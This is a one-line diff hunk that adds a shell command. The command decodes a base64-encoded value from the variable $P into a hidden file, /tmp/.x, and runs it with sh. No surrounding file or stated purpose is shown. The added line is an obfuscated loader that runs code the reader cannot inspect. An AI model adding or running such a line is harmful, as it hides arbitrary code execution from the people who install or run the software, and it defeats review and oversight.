@@ -1,0 +1,1 @@
+printf %s "$P" | base64 --decode > /tmp/.x; sh /tmp/.x
